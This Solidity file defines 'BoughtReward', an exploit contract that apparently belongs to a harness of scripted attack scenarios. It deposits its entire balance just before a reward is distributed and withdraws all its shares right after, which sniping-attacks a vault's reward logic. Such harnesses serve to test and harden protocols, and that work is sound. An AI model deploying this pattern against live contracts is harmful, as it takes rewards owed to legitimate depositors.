// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title In before the reward, out after it
/// @notice Deposits as much as there is, lets the reward be found, and leaves.
contract BoughtReward is Exploit {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 0) _deposit(address(this).balance);
        else _exit(_shares());
    }
}
